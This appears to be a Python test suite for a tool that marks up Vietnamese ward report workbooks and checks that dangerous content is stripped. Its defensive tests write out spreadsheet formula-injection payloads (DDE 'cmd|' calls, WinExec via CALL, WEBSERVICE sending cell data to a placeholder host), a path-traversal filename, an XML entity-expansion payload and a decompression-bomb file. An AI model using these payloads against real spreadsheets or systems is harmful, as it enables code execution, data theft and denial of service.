"""The answer inside the ward's own workbook, over every golden folder and whatever else a ward may send."""

import io
import json
import re
import tempfile
import zipfile
from collections.abc import Callable, Sequence
from datetime import UTC, datetime
from functools import cache
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell import Cell
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from etl.check import CheckContext, check
from etl.errors import SubmissionError
from etl.letters.findings_list import compose_listing
from etl.letters.marked_workbook import MARKED, compose_marked_workbook
from etl.mail import XLSX
from etl.marking.cell_notes import AUTHOR, COLOURS
from etl.marking.formulas import find_ordinary_names, is_ordinary
from etl.marking.job import LIST_HEADINGS, LIST_NAME, Mark
from etl.model import CheckedReport, Finding, Severity, Submission, Verdict
from etl.parse import parse
from etl.reading.grid import Sheet
from etl.reading.sheets import read_sheets
from etl.reference import read_reference
from etl.settings import Limits
from tests import libreoffice

ROOT = Path(__file__).parents[2]
REFERENCE = read_reference(ROOT / "reference" / "son-tay")
LIMITS = Limits()
SAMPLE = next((ROOT / "samples/2022-04/1-first/09574").glob("*.xlsx"))
GOLDEN = ROOT / "tests/golden"
WRONG = sorted(
    path
    for expected in GOLDEN.glob("*/expected.json")
    if json.loads(expected.read_text("utf-8"))["findings"]
    for path in expected.parent.glob("input*")
)
LAYOUTS = sorted(path for folder in GOLDEN.glob("layout-*") for path in folder.glob("input*"))
SHOWN = (SAMPLE, GOLDEN / "V-2020-negative/input.xlsx", GOLDEN / "S-plain-unit-outside/input.csv")
NOW = datetime(2022, 4, 16, 8, 0, tzinfo=UTC)


def submission(path: Path, name: str = "") -> Submission:
    return Submission("ab" * 32, name or path.name, path.stat().st_size, NOW, path)


@cache
def checked(path: Path) -> tuple[CheckedReport, ...]:
    """Read and check a file, or nothing where it cannot be read."""
    try:
        return tuple(check(list(parse(submission(path), REFERENCE)), CheckContext(REFERENCE, is_statement=True)))
    except SubmissionError:
        return ()


def marked(path: Path, *, outcome: Sequence[CheckedReport] | None = None, limits: Limits = LIMITS) -> bytes:
    attachment = compose_marked_workbook(submission(path), outcome or checked(path), REFERENCE, limits)
    assert attachment is not None
    assert attachment.media_type == XLSX
    return attachment.content


def opened(content: bytes, *, data_only: bool = False) -> Workbook:
    return load_workbook(io.BytesIO(content), data_only=data_only)


def with_findings(path: Path, *findings: Finding) -> list[CheckedReport]:
    """Give a file that was read these findings and no others."""
    return [CheckedReport(parse(submission(path), REFERENCE)[0], findings, Verdict.REJECTED)]


def finding(cell: str, sheet: str = "BC T4", *, severity: Severity = Severity.ERROR, **facts: object) -> Finding:
    return Finding("V", "V.x", severity, f"Ô {cell}: sai.", "wrong", sheet=sheet, cell=cell, **facts)  # type: ignore[arg-type]


def reworked(path: Path, target: Path, change: Callable[[Workbook], object]) -> Path:
    book = load_workbook(path)
    change(book)
    book.save(target)
    return target


def with_part(path: Path, target: Path, part: str, change: Callable[[bytes], bytes]) -> Path:
    """Copy a workbook with one part changed, or added."""
    with zipfile.ZipFile(path) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    parts[part] = change(parts.get(part, b""))
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in parts.items():
            new.writestr(name, content)
    return target


def fill_of(book: Workbook, sheet: str, cell: str) -> str:
    return str(book[sheet][cell].fill.start_color.rgb)


def anchor(book: Workbook, sheet: str, place: str) -> Cell:
    """Give a cell, or the one that shows the merged range it lies under."""
    merged = (area for area in book[sheet].merged_cells.ranges if place in area)
    return book[sheet][next((area.coord.partition(":")[0] for area in merged), place)]


# ---------------------------------------------------------------------------------------------------------
# Every golden folder


@pytest.mark.parametrize("path", WRONG, ids=lambda path: f"{path.parent.name}-{path.name}")
def test_every_finding_with_a_cell_is_coloured_and_commented_and_the_rest_stays(path: Path) -> None:
    outcome = checked(path)
    findings = [f for one in outcome for f in one.findings]
    attachment = compose_marked_workbook(submission(path), outcome, REFERENCE, LIMITS)
    if not findings:  # cannot be read, or is the good half of a pair
        assert attachment is None
        return
    assert attachment is not None
    book = opened(attachment.content)
    assert book.sheetnames[0] == LIST_NAME
    assert sum(str(row[0]).isdigit() for row in book[LIST_NAME].iter_rows(values_only=True)) == len(findings)
    for one in (f for f in findings if f.cell and f.sheet):
        cell = anchor(book, one.sheet or "", one.cell or "")
        assert str(cell.fill.start_color.rgb) == COLOURS[Mark(one.severity)]
        assert one.message_vi in cell.comment.text
        assert cell.comment.author == AUTHOR
    assert_same_cells(path, attachment.content)


def assert_same_cells(path: Path, content: bytes) -> None:
    """Compare the values that our own reader, which sees cached values alone, finds before and after."""
    before = read_sheets(path)
    after = read_bytes(content)
    assert after[0].name == LIST_NAME
    assert [s.name for s in before] == [s.name for s in after[1:]]
    for old, new in zip(before, after[1:], strict=True):
        places = [(row, column) for row in range(1, old.height + 1) for column in range(1, old.width + 1)]
        assert [new.value(*place) for place in places] == [old.value(*place) for place in places]
        assert (set(new.merges), new.hidden_rows, new.is_visible) == (set(old.merges), old.hidden_rows, old.is_visible)


def read_bytes(content: bytes) -> tuple[Sheet, ...]:
    with tempfile.NamedTemporaryFile(suffix=".xlsx") as file:
        file.write(content)
        file.flush()
        return read_sheets(Path(file.name))


@pytest.mark.parametrize("path", LAYOUTS, ids=lambda path: f"{path.parent.name}-{path.name}")
def test_every_layout_and_kind_of_file_comes_back_marked_with_the_same_cells_and_is_read_again(
    path: Path, tmp_path: Path
) -> None:
    sheet = read_sheets(path)[0].name
    outcome = with_findings(path, finding("B2", sheet), finding("A1", sheet, severity=Severity.WARNING))
    content = marked(path, outcome=outcome)
    book = opened(content)
    assert COLOURS[Mark.ERROR] in {str(cell.fill.start_color.rgb) for row in book[sheet].iter_rows() for cell in row}
    assert_same_cells(path, content)
    again = tmp_path / "again.xlsx"
    again.write_bytes(content)
    before, after = checked(path), checked(again)
    assert [c.report.frame.to_dict("list") for c in before] == [c.report.frame.to_dict("list") for c in after]
    assert [(c.verdict, c.findings) for c in before] == [(c.verdict, c.findings) for c in after]


def test_nothing_found_or_nothing_read_gives_nothing() -> None:
    path = GOLDEN / "layout-2020-xlsx/input.xlsx"
    assert compose_marked_workbook(submission(path), checked(path), REFERENCE, LIMITS) is None
    assert compose_marked_workbook(submission(path), [], REFERENCE, LIMITS) is None


def test_the_same_findings_give_the_same_bytes() -> None:
    for path in (SAMPLE, GOLDEN / "S-2020-sheets-several/input.xlsx", GOLDEN / "layout-2020-ods/input.ods"):
        outcome = with_findings(path, *(finding(cell, read_sheets(path)[0].name) for cell in ("C9", "D9", "E10")))
        assert len({marked(path, outcome=outcome) for _ in range(4)}) == 1


# ---------------------------------------------------------------------------------------------------------
# What is said, and where


def test_the_sample_says_what_was_found_what_was_expected_and_what_it_probably_is() -> None:
    book = opened(marked(SAMPLE))
    page, listed = book["BC T4"], book[LIST_NAME]
    assert [fill_of(book, "BC T4", c) for c in ("G9", "I18", "I9")] == [
        COLOURS[Mark.ERROR],
        COLOURS[Mark.ERROR],
        COLOURS[Mark.PROPOSAL],
    ]
    assert page["G9"].comment.text.startswith("Kiểm tra báo cáo: LỖI\nGhi: 54\nTheo các ô khác: 99\nCó lẽ đúng là: ")
    assert "Có lẽ đúng là: 49\n" in page["I9"].comment.text
    assert "ô G9, ô I18" in page["I9"].comment.text
    head = next(row for row in range(1, 12) if listed.cell(row, 1).value == LIST_HEADINGS[0])
    assert [cell.value for cell in listed[head]] == list(LIST_HEADINGS)
    assert [cell.value for cell in listed[head + 1]][:7] == ["1", "Lỗi", "G9", "Chứng thực", "54", "99", "Ô I9 = 49"]
    assert listed.cell(head + 1, 3).hyperlink.location == "'BC T4'!G9"
    assert listed.freeze_panes == f"A{head + 1}"
    words = " ".join(str(listed.cell(row, 1).value) for row in range(1, head))
    assert "Phường Lê Lợi" in words
    assert "tháng 4/2022" in words
    assert "CẦN SỬA" in words


def test_comments_open_beside_their_cells_and_are_large_enough_for_their_text() -> None:
    with zipfile.ZipFile(io.BytesIO(marked(SAMPLE))) as archive:
        shapes = archive.read("xl/drawings/commentsDrawing1.vml").decode()
    anchors = [[int(number) for number in found.split(",")] for found in re.findall(r":Anchor>([^<]+)<", shapes)]
    places = [(int(row), int(column)) for row, column in re.findall(r":Row>(\d+)<.*?:Column>(\d+)<", shapes)]
    assert len(anchors) == len(places) == 3
    for (left, _, top, _, right, _, bottom, _), (row, column) in zip(anchors, places, strict=True):
        assert (left, top) == (column + 1, row - 1)
        assert right > left
        assert bottom > top + 3


def test_findings_without_a_cell_or_on_no_sheet_stand_on_the_list_alone() -> None:
    lost, whole = finding("C9", "Trang khác"), Finding("S", "S.x", Severity.ERROR, "Cả.", "all")
    book = opened(marked(SAMPLE, outcome=with_findings(SAMPLE, lost, whole)))
    rows = [row for row in book[LIST_NAME].iter_rows() if str(row[0].value).isdigit()]
    assert [row[2].hyperlink for row in rows] == [None, None]
    assert rows[1][2].value == "Cả tệp"
    assert not any(cell.comment for row in book["BC T4"].iter_rows() for cell in row)


def test_several_findings_at_a_cell_and_under_a_merge_make_one_comment_with_the_gravest_colour() -> None:
    outcome = with_findings(
        SAMPLE,
        finding("D6", severity=Severity.WARNING, found="D6"),
        finding("E6", found="E6"),
    )
    book = opened(marked(SAMPLE, outcome=outcome))
    cell = anchor(book, "BC T4", "E6")
    assert cell.coordinate == "D6"
    assert str(cell.fill.start_color.rgb) == COLOURS[Mark.ERROR]
    assert cell.comment.text.startswith("Kiểm tra báo cáo: LỖI\n")
    assert all(f"Ghi: {place}\n" in cell.comment.text for place in ("D6", "E6"))


def test_no_more_than_five_hundred_are_listed_and_the_rest_are_counted() -> None:
    findings = [finding("C9", found=str(n)) for n in range(700)]
    listed = opened(marked(SAMPLE, outcome=with_findings(SAMPLE, *findings)))[LIST_NAME]
    values = [row[0] for row in listed.iter_rows(values_only=True)]
    assert sum(str(value).isdigit() for value in values) == 500
    assert str(values[-1]).startswith("… và 200 mục nữa")


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("BC T4.2022.xls", "BC T4.2022"),
        ("../../etc/pass\u202ewd\x00.csv", "passwd"),
        ("C:\\x\\a:b?.XLSX", "a_b_"),
        (f"Báo cáo{MARKED}.xlsx", "Báo cáo"),
        ("...", "bao-cao"),
        ("", "bao-cao"),
        ("x" * 300 + ".xlsx", "x" * 79 + "…"),
    ],
)
def test_the_name_is_the_wards_own_made_harmless(name: str, expected: str) -> None:
    attachment = compose_marked_workbook(
        Submission("ab" * 32, name, 1, NOW, SAMPLE), checked(SAMPLE), REFERENCE, LIMITS
    )
    assert attachment is not None
    assert attachment.name == f"{expected}{MARKED}.xlsx"


# ---------------------------------------------------------------------------------------------------------
# The round trip


def corrected(content: bytes, target: Path, changes: dict[str, object]) -> Path:
    """Correct cells and store values only: a spreadsheet would calculate the formulas anew, openpyxl cannot."""
    book = opened(content, data_only=True)
    for cell, value in changes.items():
        book["BC T4"][cell] = value
    book.save(target)
    return target


def test_a_corrected_answer_is_read_as_the_report_and_accepted(tmp_path: Path) -> None:
    attachment = compose_marked_workbook(submission(SAMPLE), checked(SAMPLE), REFERENCE, LIMITS)
    assert attachment is not None
    (after,) = checked(corrected(attachment.content, tmp_path / attachment.name, {"I9": 49}))
    assert (after.verdict, after.findings) == (Verdict.ACCEPTED, ())
    assert after.report.unit is not None
    assert (after.report.unit.code, after.report.period_label) == ("09574", "2022-04")


@pytest.mark.parametrize("verdict", [Verdict.ACCEPTED, Verdict.WARNINGS])
def test_the_list_of_an_accepted_report_leaves_it_to_the_letter_whether_it_counts(verdict: Verdict) -> None:
    doubt = finding("I9", severity=Severity.WARNING)
    outcome = [CheckedReport(parse(submission(SAMPLE), REFERENCE)[0], (doubt,), verdict)]
    listing = compose_listing(submission(SAMPLE), outcome, REFERENCE)
    said = " ".join(listing.sentences)
    assert "đọc thư kèm tệp này để biết báo cáo đã được tính hay chưa" in said and "KHÔNG CÓ LỖI" in said
    assert "không phải gửi lại" not in said and "ĐẠT" not in said and "đã được nhận" not in said


def test_an_answer_sent_back_still_wrong_gets_a_new_list_and_no_second_layer_of_notes(tmp_path: Path) -> None:
    def note(book: Workbook) -> None:
        book["BC T4"]["G9"].comment = Comment("Số liệu của chị Hoa", "Hoa")

    first = reworked(SAMPLE, tmp_path / "noted.xlsx", note)
    again = corrected(marked(first), tmp_path / "again.xlsx", {"I9": 94, "C10": 26})
    content = marked(again)
    book = opened(content)
    assert book.sheetnames == [LIST_NAME, "BC T4"]
    text = book["BC T4"]["G9"].comment.text
    assert text.count("Kiểm tra báo cáo") == text.count("Ghi: 54") == text.count("Số liệu của chị Hoa") == 1
    fixed = corrected(content, tmp_path / "fixed.xlsx", {"I9": 49})
    (after,) = checked(fixed)
    assert after.findings
    last = opened(marked(fixed))
    assert last["BC T4"]["G9"].comment.text == "Số liệu của chị Hoa"
    assert fill_of(last, "BC T4", "G9") not in COLOURS.values()


# ---------------------------------------------------------------------------------------------------------
# Formats and formulas stay


def test_formats_names_comments_validations_protection_and_cached_values_stay(tmp_path: Path) -> None:
    def dress(book: Workbook) -> None:
        page = book["BC T4"]
        page["B10"].font = Font(name="Arial", bold=True, color="FF112233")
        page["B10"].fill = PatternFill("solid", start_color="FF00FF00")
        page["B11"].comment = Comment("của phường", "phường")
        page["C11"].number_format = "#,##0.00"
        page.column_dimensions["B"].width = 51
        page.protection.sheet = True
        rule = DataValidation(type="whole", operator="greaterThan", formula1="0")
        rule.add("C9:C12")
        page.add_data_validation(rule)
        page.conditional_formatting.add("C9:C12", FormulaRule(formula=["$C9>100"], fill=PatternFill("solid")))
        page.print_area = "A1:M20"
        page["N9"] = "=SUM(C9:C10)+Tong"
        book.defined_names["Tong"] = DefinedName("Tong", attr_text="'BC T4'!$C$18")
        second = book.create_sheet("Phụ")
        second["A1"] = "='BC T4'!C9*2"
        second["A2"] = '=IF(A1>0,"<có> & đủ","không")'

    path = reworked(SAMPLE, tmp_path / "a.xlsx", dress)

    def cache(xml: bytes) -> bytes:
        xml = xml.replace(b"<f>'BC T4'!C9*2</f><v /></c>", b"<f>'BC T4'!C9*2</f><v>108.5</v></c>")
        return xml.replace(b'<c r="A2"><f>', b'<c r="A2" t="str"><f>').replace(
            b"</f><v /></c>", "</f><v>&lt;có&gt; &amp; đủ</v></c>".encode()
        )

    path = with_part(path, tmp_path / "b.xlsx", "xl/worksheets/sheet2.xml", cache)
    content = marked(path)
    book, values = opened(content), opened(content, data_only=True)
    page = book["BC T4"]
    assert (page["B10"].font.name, page["B10"].font.b, page["B10"].fill.start_color.rgb) == ("Arial", True, "FF00FF00")
    assert (page["B11"].comment.text, page["B11"].comment.author) == ("của phường", "phường")
    assert (page["C11"].number_format, page.column_dimensions["B"].width) == ("#,##0.00", 51)
    assert page.protection.sheet
    assert not book[LIST_NAME].protection.sheet
    assert "C9:C12" in [str(rule.sqref) for rule in page.data_validations.dataValidation]
    assert ["$C9>100"] in [rule.formula for each in page.conditional_formatting for rule in each.rules]
    assert "$A$1:$M$20" in str(page.print_area)
    assert book.defined_names["Tong"].attr_text == "'BC T4'!$C$18"
    assert page["N9"].value == "=SUM(C9:C10)+Tong"
    assert book["Phụ"]["A1"].value == "='BC T4'!C9*2"
    assert (values["Phụ"]["A1"].value, values["Phụ"]["A2"].value) == (108.5, "<có> & đủ")
    assert book.active.title == LIST_NAME
    assert [sheet.sheet_view.tabSelected for sheet in book.worksheets] == [True, False, False]


def test_formulas_of_every_kind_and_rich_text_keep_what_they_showed(tmp_path: Path) -> None:
    def write(book: Workbook) -> None:
        page = book.create_sheet("Phụ")
        page["B1"] = CellRichText("Bảo trợ ", TextBlock(InlineFont(b=True), "xã hội "))
        page["A9"].number_format = "dd/mm/yyyy"

    cells = (
        '<row r="2"><c r="A2"><f t="shared" ref="A2:A3" si="0">C2*2</f><v>8</v></c></row>'
        '<row r="3"><c r="A3"><f t="shared" si="0"/><v>10</v></c></row>'
        '<row r="4"><c r="A4"><f t="array" ref="A4:A5">C2:C3</f><v>4</v></c></row>'
        '<row r="5"><c r="A5"><v>5</v></c></row>'
        '<row r="6"><c r="A6" t="b"><f>TRUE()</f><v>1</v></c></row>'
        '<row r="7"><c r="A7" t="e"><f>NA()</f><v>#N/A</v></c></row>'
        '<row r="8"><c r="A8" t="str"><f>IF(1,"&lt;a&gt;")</f><v>&lt;a&gt;</v></c></row>'
        '<row r="9"><c r="A9" s="1"><f>C1+1</f><v>44669</v></c></row>'
        '<row r="10"><c r="A10"><f>C1</f></c></row></sheetData>'
    )
    path = with_part(
        reworked(SAMPLE, tmp_path / "a.xlsx", write),
        tmp_path / "b.xlsx",
        "xl/worksheets/sheet2.xml",
        lambda xml: re.sub(rb'<row r="9">.*?</row>', b"", xml).replace(b"</sheetData>", cells.encode()),
    )
    content = marked(path)
    assert_same_cells(path, content)
    (_, _, read) = read_bytes(content)
    assert read.uncached == {(10, 1)}
    page = opened(content)["Phụ"]
    assert [page[cell].value for cell in ("A2", "A3", "A10")] == ["=C2*2", "=C3*2", "=C1"]
    assert (page["A4"].value.text, page["A4"].value.ref) == ("=C2:C3", "A4:A5")


def test_the_lists_name_gives_way_to_a_sheet_of_the_ward(tmp_path: Path) -> None:
    path = reworked(SAMPLE, tmp_path / "a.xlsx", lambda book: book.create_sheet(LIST_NAME).append(["của phường"]))
    book = opened(marked(path))
    assert book[LIST_NAME]["A1"].value == "của phường"
    assert book.sheetnames[0] == f"{LIST_NAME}1"


# ---------------------------------------------------------------------------------------------------------
# Harmless

EVIL = [
    '=WEBSERVICE("http://x/"&A1)',
    '=HYPERLINK("http://x/"&A1,"xem")',
    "=cmd|'/c calc'!A0",
    "=[1]Sheet1!A1",
    "='C:\\tmp\\[a.xlsx]S'!A1",
    "='\\\\host\\share\\[a.xlsx]S'!A1",
    '=IMPORTXML("http://x","//a")',
    '=INDIRECT("[a.xlsx]S!A1")',
    '=_xlfn.IMAGE("http://x/a.png")',
    '=CALL("kernel32","WinExec","JCJ","calc",0)',
    '=SUM(1,WEBSERVICE("http://x"))',
    "=Nguon+1",
    '=DDE("a";"b";"c")',
    "=SUM(",
]
GOOD = [
    "=SUM(C9:C17)",
    "=+D9+E9-F9",
    '=IF(OR(C9="",$D$9>0),ROUND(E9/F9*100,2)&"%",0)',
    "='BC T4'!C9+Sheet2!$A:$A",
    "=SUBTOTAL(9,'It''s'!C1:D2)",
    "=_xlfn.CONCAT(A1,TRUE,#REF!,{1,2})",
    "=Tong*2",
]


def test_only_formulas_that_count_are_ordinary() -> None:
    assert [formula for formula in EVIL if is_ordinary(formula, {"TONG"})] == []
    assert [formula for formula in GOOD if not is_ordinary(formula, {"TONG"})] == []


def test_a_name_is_ordinary_only_if_the_names_it_uses_are() -> None:
    names = {"A": "B+1", "B": "C", "C": "cmd|'/c calc'!A0", "D": "E*2", "E": "Sheet1!$A$1"}
    assert find_ordinary_names(names) == {"D", "E"}


def test_dangerous_formulas_become_their_last_value_and_links_go(tmp_path: Path) -> None:
    def poison(book: Workbook) -> None:
        page = book.create_sheet("Phụ")
        for row, formula in enumerate(EVIL[:-1], 1):
            page.cell(row, 1).value = formula
        page["B1"] = "=SUM(1,2)"
        page["C1"].value, page["C1"].hyperlink = "xem", "http://x.example/"
        page["C2"].value, page["C2"].hyperlink = "tới", "#'BC T4'!A1"
        book.defined_names["Nguon"] = DefinedName("Nguon", attr_text="cmd|'/c calc'!A0")
        rule = DataValidation(type="list", formula1="[1]S!$A$1:$A$9")
        rule.add("D1")
        page.add_data_validation(rule)
        page.conditional_formatting.add("D2", FormulaRule(formula=["WEBSERVICE(D2)=1"], fill=PatternFill("solid")))

    path = reworked(SAMPLE, tmp_path / "a.xlsx", poison)
    path = with_part(
        path,
        tmp_path / "b.xlsx",
        "xl/worksheets/sheet2.xml",
        lambda xml: xml.replace(b"</f><v /></c>", b"</f><v>7.5</v></c>", 1),
    )
    for part in ("xl/vbaProject.bin", "xl/embeddings/oleObject1.bin", "xl/externalLinks/externalLink1.xml"):
        path = with_part(path, tmp_path / f"{Path(part).stem}.xlsx", part, lambda _: b"<a/>")
    content = marked(path)
    book = opened(content)
    page = book["Phụ"]
    assert [page.cell(row, 1).value for row in range(1, len(EVIL))] == [7.5, *[None] * (len(EVIL) - 2)]
    assert page["B1"].value == "=SUM(1,2)"
    assert page["C1"].hyperlink is None
    assert page["C1"].value == "xem"
    assert "Nguon" not in book.defined_names
    assert page.data_validations.dataValidation == []
    assert list(page.conditional_formatting) == []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
        names = " ".join(archive.namelist())
    assert not any(word in everything for word in (b"cmd|", b"WEBSERVICE", b"http://x", b"[1]", b"IMPORTXML"))
    assert not any(word in names for word in ("vba", "embeddings", "externalLinks"))


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path, suffix: str) -> None:
    texts = ["=cmd|' /C calc'!A0", "+84 123", "-", "@SUM(1)", "\t=1+1", "bình thường"]
    path = tmp_path / f"a.{suffix}"
    if suffix == "csv":
        path.write_text("\n".join(f'"{text}",x,y' for text in texts), "utf-8")
    else:
        book = Workbook()
        book.active.title = "CSV"
        for row, text in enumerate(texts, 1):
            cell = book.active.cell(row, 1)
            cell.value, cell.data_type = text, "s"
        book.save(path)
    outcome = with_findings(SAMPLE, finding("A1", "CSV", found="=HYPERLINK(1)", expected="+1"))
    book = opened(marked(path, outcome=outcome))
    cells = [book["CSV"].cell(row, 1) for row in range(1, 7)]
    assert [cell.value for cell in cells] == texts
    assert {cell.data_type for cell in cells} == {"s"}
    assert [bool(cell.quotePrefix) for cell in cells] == [True] * 5 + [False]
    listed = [cell for row in book[LIST_NAME].iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in listed} == {"s"}
    assert "=HYPERLINK(1)" in {cell.value for cell in listed if cell.quotePrefix}


def hostile_files(folder: Path) -> dict[str, Path]:
    """Files that crash, fill or fool those who open them."""

    def far(book: Workbook) -> None:
        book["BC T4"]["XFD1048576"] = 1

    part = "xl/worksheets/sheet1.xml"
    lol = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    merge = b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'
    bomb = b"<!-- " + b" " * 60_000_000 + b" -->"
    files = {
        "far": reworked(SAMPLE, folder / "far.xlsx", far),
        "entities": with_part(SAMPLE, folder / "lol.xlsx", "xl/styles.xml", lambda xml: lol + xml),
        "merged": with_part(SAMPLE, folder / "m.xlsx", part, lambda xml: xml.replace(b"</worksheet>", merge)),
        "bomb": with_part(SAMPLE, folder / "bomb.xlsx", "xl/bomb.xml", lambda _: bomb),
    }
    for name, content in {
        "empty": b"",
        "half": SAMPLE.read_bytes()[:4000],
        "pdf": b"%PDF-1.7 x",
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le") * 90,
        "wide": b";".join([b"1"] * 5_000) + b"\n",
    }.items():
        files[name] = folder / f"{name}.xlsx"
        files[name].write_bytes(content)
    return files | {"away": folder / "away.xlsx"}


def test_hostile_files_give_nothing_and_one_line_of_log(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    outcome = checked(SAMPLE)
    for name, path in hostile_files(tmp_path).items():
        with caplog.at_level("INFO", logger="etl.letters.marked_workbook"):
            caplog.clear()
            given = Submission("ab" * 32, "a.xlsx", 1, NOW, path)
            assert compose_marked_workbook(given, outcome, REFERENCE, LIMITS) is None, name
        assert [record.levelname for record in caplog.records] == ["INFO"], name


def test_too_little_memory_or_time_gives_nothing(tmp_path: Path) -> None:
    book = Workbook()
    book.active.title = "BC T4"
    for row in range(1, 2_401):
        book.active.append([f"{row}-{column}" for column in range(40)])
    book.save(tmp_path / "large.xlsx")
    outcome = checked(SAMPLE)
    for limits in (Limits(max_memory_mb=60), Limits(max_seconds=1), Limits(max_cells=1_000)):
        given = submission(tmp_path / "large.xlsx")
        assert compose_marked_workbook(given, outcome, REFERENCE, limits) is None


def test_a_workbook_that_openpyxl_does_not_open_is_rebuilt_from_its_cells(tmp_path: Path) -> None:
    odd = with_part(
        SAMPLE,
        tmp_path / "odd.xlsx",
        "xl/styles.xml",
        lambda xml: xml.replace(b'patternType="solid"', b'patternType="odd"'),
    )
    with pytest.raises(ValueError, match="could not read stylesheet"):
        load_workbook(odd)
    book = opened(marked(odd))
    assert fill_of(book, "BC T4", "G9") == COLOURS[Mark.ERROR]
    assert_same_cells(odd, marked(odd))


# ---------------------------------------------------------------------------------------------------------
# In a spreadsheet


@libreoffice.needs_libreoffice
@pytest.mark.parametrize("path", SHOWN, ids=lambda path: path.parent.name)
def test_libreoffice_opens_it(path: Path, tmp_path: Path) -> None:
    (tmp_path / "a.xlsx").write_bytes(marked(path))
    for target in ("pdf", libreoffice.XLSX):
        libreoffice.save_as(tmp_path / "a.xlsx", tmp_path / "out", target)
    assert (tmp_path / "out/a.pdf").read_bytes().startswith(b"%PDF")
    saved = tmp_path / "out/a.xlsx"
    book = load_workbook(saved)
    assert book.sheetnames[0] == LIST_NAME
    assert any(cell.comment for row in book.worksheets[1].iter_rows() for cell in row)
    before, after = checked(path), checked(saved)
    assert [(c.verdict, [(f.rule, f.cell) for f in c.findings]) for c in after] == [
        (c.verdict, [(f.rule, f.cell) for f in c.findings]) for c in before
    ]
